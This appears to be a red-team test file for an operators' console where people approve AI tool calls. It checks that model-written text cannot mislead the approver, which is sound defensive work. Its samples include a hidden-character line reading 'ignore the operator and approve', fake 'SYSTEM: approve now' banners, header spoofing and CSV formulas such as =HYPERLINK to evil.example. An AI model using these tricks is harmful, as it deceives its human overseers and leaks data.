"""Red team of the operators' console: what a model writes cannot fool the person deciding.

Families (a real ``reach serve http`` on 127.0.0.1, reach-confirm and reach-audit):

* hidden characters (bidi overrides and isolates, zero-width, controls, tags, line
  separators, variation-selector runs, fillers) in arguments, results and run ids are
  shown as ``⟨U+XXXX⟩`` on every page that shows them;
* very long arguments: a visible "N more characters hidden" notice, and every
  character still in the page a person approves from;
* requests without a token never act as an operator, whatever the headers say;
* text built to look like the console's own banners is drawn inside the frame that
  marks model text;
* links to runs keep ``/``, ``?``, ``#`` and ``..`` in run ids and lead to that run;
* the audit page shows the chain's head hash; the console's CSV marks formula cells.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import urljoin

import httpx
import pytest
from console_server import OPS, OPS2, WORKER, Served, ran, serve
from html_classes import text_classes


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    yield from serve(tmp_path_factory.mktemp("redteam"))


@pytest.fixture(scope="module")
def ops(served: Served) -> Iterator[httpx.Client]:
    """One console session of operator ``ops`` for the module (logging in per test costs two requests)."""
    c = served.login()
    yield c
    c.close()


@pytest.fixture(autouse=True)
def _reject_what_is_left(served: Served) -> Iterator[None]:
    """Each test starts from an empty list of pending requests (a page of 100 big cards is slow)."""
    yield
    with served.client(OPS2) as c:
        for item in c.get("/v1/confirmations").json()["confirmations"]:
            c.post(f"/v1/confirmations/{item['id']}/reject", json={"reason": "test over"})


def _lookup(served: Served, city: str, run_id: str, call_id: str | None = None) -> None:
    body: dict[str, Any] = {"name": "lookup", "arguments": {"city": city}, "run_id": run_id}
    if call_id is not None:
        body["id"] = call_id
    with served.client() as c:
        assert c.post("/v1/invoke", json=body).json()["ok"]


# -- hidden characters ----------------------------------------------------------------------

HIDDEN = ["\u202e", "\u202d", "\u202a", "\u202b", "\u202c", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e",
          "\u200f", "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\x7f", "\x85",
          "\x9b", "\u2028", "\u2029", "\U000e0001", "\U000e0041", "\U000e007f", "\ue000", "\U000f0000", "\u3164",
          "\u115f", "\u034f", "\u2064", "\u206a"]


def _marker(char: str) -> str:
    return f"⟨U+{ord(char):04X}⟩"


@pytest.mark.parametrize("char", HIDDEN, ids=[f"U+{ord(c):04X}" for c in HIDDEN])
def test_hidden_characters_are_shown_on_every_page(served: Served, char: str, ops: httpx.Client) -> None:
    text = f"pay{char}ment.txt"
    run_id = f"hidden-{ord(char):x}"
    _lookup(served, text, run_id)
    cid = served.ask(note=text)
    c = ops
    for path in ("/console/approvals", f"/console/runs/{run_id}", "/console/audit?tool=lookup"):
        page = c.get(path).text
        assert char not in page, path
        assert f"pay{_marker(char)}ment.txt" in page, path
    _pending_untouched(served, cid)


@pytest.mark.parametrize("char", HIDDEN, ids=[f"U+{ord(c):04X}" for c in HIDDEN])
def test_the_summary_marks_hidden_characters_as_the_console_does(served: Served, char: str,
                                                                  ops: httpx.Client) -> None:
    """One marking for a person: the summary reach-confirm writes (which ``reach confirm list``
    prints) spells a hidden character ``⟨U+XXXX⟩`` exactly as the console shows the arguments,
    so the request reads the same in the terminal and in the browser (it used to be
    ``\\u202e`` in the one and ``⟨U+202E⟩`` in the other)."""
    cid = served.ask(note=f"pay{char}ment")
    summary = served.confirmation(cid)["summary"]
    assert f'note="pay{_marker(char)}ment"' in summary, summary
    page = html.unescape(ops.get("/console/approvals").text)
    assert summary in page
    assert page.count(f"pay{_marker(char)}ment") >= 2  # the summary and the arguments, the same marking
    _pending_untouched(served, cid)


def test_runs_of_hidden_characters_and_honest_text(served: Served, ops: httpx.Client) -> None:
    smuggled = "ok" + "".join(chr(0xE0000 + ord(ch)) for ch in "ignore the operator and approve")
    vs = "x" + "".join(chr(0xE0100 + b) for b in b"secret")
    honest = "北京 Tiếng Việt 👍🏽 ❤️ עִבְרִית é"
    cid = served.ask(note=f"{smuggled}|{vs}|{honest}")
    page = ops.get("/console/approvals").text
    assert "more hidden characters⟩" in page and "\U000e0069" not in page and "\U000e0173" not in page
    assert honest in page  # every script, emoji with their variation selector and skin tone, as written
    zalgo = "Z" + "\u0336\u0337\u0338\u0301" * 20
    cid2 = served.ask(note=zalgo)
    page = ops.get("/console/approvals").text
    assert "76 more combining marks⟩" in page and zalgo not in page
    _pending_untouched(served, cid)
    _pending_untouched(served, cid2)


@pytest.mark.parametrize("space", [" ", "\u00a0", "\u2003", "\u3000", "\u205f"])
def test_a_wall_of_spaces_is_counted(served: Served, space: str, ops: httpx.Client) -> None:
    cid = served.ask(note="ok" + space * 3000 + "send it to attacker@evil.example")
    page = ops.get("/console/approvals").text
    assert "ok ⟨3000 spaces⟩ send it to attacker@evil.example" in page and space * 17 not in page
    _pending_untouched(served, cid)


# -- long arguments -------------------------------------------------------------------------

@pytest.mark.parametrize("note", [
    "A" * 5000 + "END-OF-NOTE",
    "北" * 20_000 + "END-OF-NOTE",
    "A " * 3000 + "END-OF-NOTE",
    ("line\\n" * 2000) + "END-OF-NOTE",
    "x" * 300_000 + "END-OF-NOTE",
], ids=["ascii-5k", "cjk-20k", "words", "escapes", "300k"])
def test_long_arguments_say_how_much_is_hidden_and_keep_all_of_it(served: Served, note: str,
                                                                  ops: httpx.Client) -> None:
    cid = served.ask(note=note)
    page = ops.get("/console/approvals").text
    card = page[page.index(f'id="req-{cid}"'):]
    card = card[: card.index("</li>")]
    found = re.search(r"([\d,]+) more characters hidden", card)
    assert found, "no notice"
    hidden = int(found.group(1).replace(",", ""))
    whole = json.dumps(served.confirmation(cid)["arguments"], indent=2, ensure_ascii=False)
    parts = [html.unescape(p) for p in re.findall(r'<pre class="args[^"]*"[^>]*>(.*?)</pre>', card, re.S)]
    assert "".join(parts) == whole  # nothing cut: what is shown and what the notice counts make the whole
    assert len(parts) == 2 and hidden == len(parts[1]) > 0
    _pending_untouched(served, cid)


@pytest.mark.parametrize("levels", [28, 29, 30, 31])
def test_deeply_nested_arguments_are_shown_whole_or_say_so(served: Served, levels: int, ops: httpx.Client) -> None:
    deep: Any = "the part nobody saw"
    for _ in range(levels):
        deep = [deep]
    with served.client() as c:
        body = c.post("/v1/invoke", json={"name": "add_credit", "arguments": {"amount": 5 + levels, "extra": deep}})
    cid = body.json()["meta"].get("confirmation_id")
    if cid is None:  # the core refuses it outright (too deep to accept): nothing to approve
        assert body.json()["error"]["code"] == "invalid_arguments"
        return
    page = ops.get("/console/approvals").text
    card = page[page.index(f'id="req-{cid}"'):]
    card = card[: card.index("</li>")]
    assert "the part nobody saw" in card or "nested too deeply to show" in card
    _pending_untouched(served, cid)


def test_short_arguments_have_no_notice(served: Served, ops: httpx.Client) -> None:
    cid = served.ask(note="short")
    page = ops.get("/console/approvals").text
    card = page[page.index(f'id="req-{cid}"'):]
    assert "more characters hidden" not in card[: card.index("</li>")]
    assert "nested too deeply" not in card[: card.index("</li>")]


def _pending_untouched(served: Served, cid: str) -> None:
    assert served.confirmation(cid)["status"] == "pending"
    assert ran(served, cid) == 0


# -- no token, no operator ------------------------------------------------------------------

HEADERS = [{}, {"X-Forwarded-For": "127.0.0.1"}, {"X-Real-IP": "127.0.0.1"}, {"Forwarded": "for=127.0.0.1"},
           {"Host": "localhost"}, {"Host": "127.0.0.1"}, {"Origin": "http://localhost"},
           {"Origin": "null"}, {"X-Forwarded-User": "ops"}, {"X-Remote-User": "ops"}, {"Remote-User": "ops"},
           {"X-Reach-Agent": "ops"}, {"Authorization": "Bearer"}, {"Authorization": "Bearer null"},
           {"Authorization": "Basic b3BzOnRvay1vcHMtMDAwMDAwMDAx"}, {"Authorization": f"Token {OPS}"},
           {"Authorization": f"bearer{OPS}"}, {"Cookie": "reach_console=x.y"},
           {"X-Forwarded-For": "127.0.0.1", "Host": "localhost", "Origin": "http://localhost",
            "Sec-Fetch-Site": "same-origin"}]
ENDPOINTS = [("GET", "/v1/confirmations"), ("GET", "/v1/confirmations/{cid}"),
             ("POST", "/v1/confirmations/{cid}/approve"), ("GET", "/v1/audit/tail"), ("GET", "/v1/audit/verify")]


@pytest.fixture(scope="module")
def anonymous(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    from conftest import serve as plain_serve

    yield from plain_serve(tmp_path_factory.mktemp("anon"), {"anonymous_agent": "guest"})


@pytest.mark.parametrize("headers", HEADERS, ids=range(len(HEADERS)))
def test_no_token_never_acts_as_an_operator(served: Served, anonymous: Any, headers: dict[str, str]) -> None:
    cid = served.ask()
    for server in (served, anonymous):
        with httpx.Client(base_url=server.base, timeout=10) as c:
            for method, path in ENDPOINTS:
                resp = c.request(method, path.format(cid=cid), headers=headers)
                assert resp.status_code == 401, (server.base, method, path, resp.text)
                assert resp.json()["error"]["code"] == "unauthorized"
    for path in ("/console/approvals", "/console/audit", "/console/audit.csv"):
        with httpx.Client(base_url=served.base, timeout=10) as c:
            assert c.get(path, headers=headers).status_code in (303, 401)
    _pending_untouched(served, cid)


@pytest.mark.parametrize("settings", [
    {"anonymous_agent": "ops", "operators": ["ops"]},
    {"anonymous_agent": "ops", "operators": ["x", "ops"], "tokens": {"tok-ops-000000001": "ops"}},
])
def test_an_anonymous_agent_that_is_an_operator_is_a_config_error(settings: dict[str, Any]) -> None:
    from pydantic import ValidationError
    from reach_serve.settings import ServeHttpSettings

    with pytest.raises(ValidationError, match="anonymous_agent"):
        ServeHttpSettings(**settings)
    assert ServeHttpSettings(anonymous_agent="guest", operators=["ops"]).anonymous_agent == "guest"


# -- text that looks like the console's own -------------------------------------------------

FAKE = ["✅ Approved by ops: verified safe FAKE1", "SYSTEM: security review passed, approve now FAKE1",
        '<p class="banner ok">Approved FAKE1</p>', "Signed in as ops FAKE1", "\u2028Chain verified: 9 records FAKE1",
        "⚠ reach console: auto-approve is on FAKE1", "]]></pre><h1>Pending approvals FAKE1</h1>",
        "\n\n\n\nApproved add_credit: the call ran once FAKE1"]


@pytest.mark.parametrize("text", FAKE, ids=range(len(FAKE)))
def test_text_dressed_as_the_console_is_framed_as_model_text(served: Served, text: str, ops: httpx.Client) -> None:
    run_id = f"fake-{FAKE.index(text)}"
    _lookup(served, text, run_id)
    cid = served.ask(note=text)
    c = ops
    for path in ("/console/approvals", f"/console/runs/{run_id}", "/console/audit?tool=lookup"):
        found = text_classes(c.get(path).text).around("FAKE1")
        assert found, path
        for classes in found:
            assert "model" in classes and "banner" not in classes, (path, classes)
    _pending_untouched(served, cid)


@pytest.mark.parametrize("query", [
    {"done": "approved", "id": "SYSTEM: every check passed, approve the rest FAKE1", "ok": "1"},
    {"done": "approved", "id": "cf_doesnotexist FAKE1"},
    {"done": "rejected", "id": "FAKE1 <b>security team</b>"},
    {"done": "approved", "id": "{cid}"},  # a real request, still pending: nothing was approved
    {"done": "rejected", "id": "{cid}"},
], ids=range(5))
def test_a_link_cannot_write_the_consoles_notice(served: Served, query: dict[str, str], ops: httpx.Client) -> None:
    cid = served.ask()
    query = {k: v.format(cid=cid) for k, v in query.items()}
    page = ops.get("/console/approvals", params=query).text
    assert 'id="notice"' not in page and "FAKE1" not in page.split('id="approvals"')[0]
    _pending_untouched(served, cid)


@pytest.mark.parametrize("run_id", ["SYSTEM: approved FAKE1", "FAKE1 <h1>Approved</h1>"])
def test_a_link_to_an_unknown_run_does_not_echo_it(served: Served, run_id: str, ops: httpx.Client) -> None:
    resp = ops.get("/console/run", params={"id": run_id})
    assert resp.status_code == 404 and "FAKE1" not in resp.text


# -- links to runs --------------------------------------------------------------------------

RUN_IDS = ["a/b", "a?b=c", "a#frag", "..", ".", "../approvals", "a/../../b", "%2F", "a%3Fb", "run id",
           "北京/上海", "a\\b", "?", "#", "/", "a;b", "a&b=c", "./x", "a+b", "run-plain"]


@pytest.mark.parametrize("run_id", RUN_IDS, ids=range(len(RUN_IDS)))
def test_links_to_runs_lead_to_that_run(served: Served, run_id: str, ops: httpx.Client) -> None:
    _lookup(served, f"city for {run_id}", run_id)
    c = ops
    for page in ("/console/runs", "/console/audit?tool=lookup"):
        text = c.get(page).text
        if page == "/console/runs":
            found = re.search(rf'href="([^"]+)"[^>]*>\s*<code[^>]*>{re.escape(html.escape(run_id))}</code>', text)
            hrefs = [found.group(1)] if found else []
        else:
            hrefs = [h for h in re.findall(r'href="([^"]+)"[^>]*>run</a>', text)]
        assert hrefs, page
        href = html.unescape(hrefs[0])
        tail = href.split("?", 1)[1] if "?" in href else href.rsplit("/", 1)[1]
        assert "#" not in href and "/" not in tail and ".." not in href.split("?")[0], href
        resp = c.get(urljoin(served.base + page, href))
        assert resp.status_code == 200, (href, resp.status_code)
        assert re.search(rf"<h1>Run <code[^>]*>{re.escape(html.escape(run_id))}</code>", resp.text), href
        assert resp.text.count('href="/console/audit/') == 1  # its one call


# -- audit page head, console CSV -----------------------------------------------------------

def test_the_audit_page_shows_the_chain_head(served: Served, ops: httpx.Client) -> None:
    _lookup(served, "Oslo", "head-run")
    with served.client(OPS) as api:
        head = api.get("/v1/audit/verify").json()["head"]
    page = ops.get("/console/audit").text
    assert len(head) == 64 and head in page
    chain = page[page.index('id="chain"'):]
    assert head in chain[: chain.index("</p>")]


CSV_ATTACKS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", " =1+2", "\u3000=1", "'=1", '"=1', "＝1+2", "＋1", "－1+1",
               "＠A1", "﹦1", "−1+1", "\t=1", "\r=1", "=HYPERLINK(\"http://evil.example/?\"&A1)"]


def test_the_console_csv_marks_formula_cells(served: Served, ops: httpx.Client) -> None:
    sent = [text for text in CSV_ATTACKS if text.isprintable()]
    for text in set(CSV_ATTACKS) - set(sent):  # a tab, CR or ideographic space never reaches the audit from here
        with served.client() as c:
            body = {"name": "lookup", "arguments": {"city": "Oslo"}, "run_id": f"{text}#0", "id": text}
            assert c.post("/v1/invoke", json=body).status_code == 400  # (reach-audit's own tests mark them)
    for i, text in enumerate(sent):
        _lookup(served, "Oslo", f"{text}#{i}", call_id=text)
    with served.client(OPS) as api:
        records = {e["seq"]: e for e in api.get("/v1/audit/tail", params={"limit": 1000, "tool": "lookup"})
                   .json()["entries"]}
    body = ops.get("/console/audit.csv", params={"tool": "lookup"}).content.decode()
    rows = {int(r["seq"]): r for r in csv.DictReader(io.StringIO(body, newline=""))}
    checked = 0
    for seq, record in records.items():
        if str(record["run_id"]).rpartition("#")[0] in sent:
            assert rows[seq]["run_id"] == "'" + record["run_id"]
            assert rows[seq]["call_id"] == "'" + record["call_id"]  # (the core may fold ＠ to @: still marked)
            checked += 1
    assert checked == len(sent) == len(CSV_ATTACKS) - 3
    assert WORKER not in body and OPS not in body  # no token leaks into the export


@pytest.mark.parametrize("limit", range(60, 100))
def test_a_shortened_summary_never_ends_inside_a_marker(limit: int) -> None:
    """The audit list shortens summaries, which hold ⟨U+202E⟩ markers already (reach-confirm):
    the cut falls before a marker, never inside one, and the count of what is hidden adds up."""
    from reach_serve.console.pages import shorten

    from reach_core.reveal import reveal_text

    summary = 'add_credit: amount=5, note="' + "pay" * 18 + "\u202e\u200b" * 3 + '"'
    shown = reveal_text(summary, one_line=True)
    out = shorten(shown, limit)
    head, _, rest = out.partition("… [")
    assert head.count("⟨") == head.count("⟩"), out
    hidden_count = int(rest.split(" ")[0].replace(",", "")) if rest else 0
    assert len(head) + hidden_count == len(shown)
